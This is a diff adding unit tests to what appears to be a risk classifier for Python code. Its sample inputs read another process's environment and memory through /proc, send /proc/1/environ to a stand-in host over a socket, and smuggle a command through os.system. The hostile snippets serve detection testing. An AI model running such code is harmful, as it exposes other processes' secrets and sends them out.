@@ -151,3 +151,16 @@ TEST(AssessHidden, AComputedNameRaisesAnInjectableCommandToBlocked) {
   EXPECT_EQ(level("import os\nf = getattr(os, 'sy' + 'stem')\nf('uptime')\n"), RiskLevel::high);
   EXPECT_EQ(level("import os, sys\nos.system(sys.argv[1])\n"), RiskLevel::high);
 }
+
+TEST(AssessHidden, AnotherProcesssEnvironmentReadIsHighItsMemoryBlocked) {
+  // /proc/PID/mem is the policy's BLOCKED; another process's environment is a secret that is not
+  // its own (HIGH), and sent out, exfiltration.
+  EXPECT_EQ(level("def env(pid):\n    return open(f'/proc/{pid}/environ', 'rb').read().split(b'\\0')\nprint(env(1))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import os\nfd = os.open('/proc/1/mem', os.O_RDONLY)\nprint(os.read(fd, 16))\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import socket\ns = socket.create_connection(('h.example', 9))\n"
+                  "s.sendall(open('/proc/1/environ', 'rb').read())\n"),
+            RiskLevel::blocked);
+  // Its own memory map, for its own accounting: read and printed.
+  EXPECT_EQ(level("print(open('/proc/self/maps').read().count('\\n'))\n"), RiskLevel::low);
+}
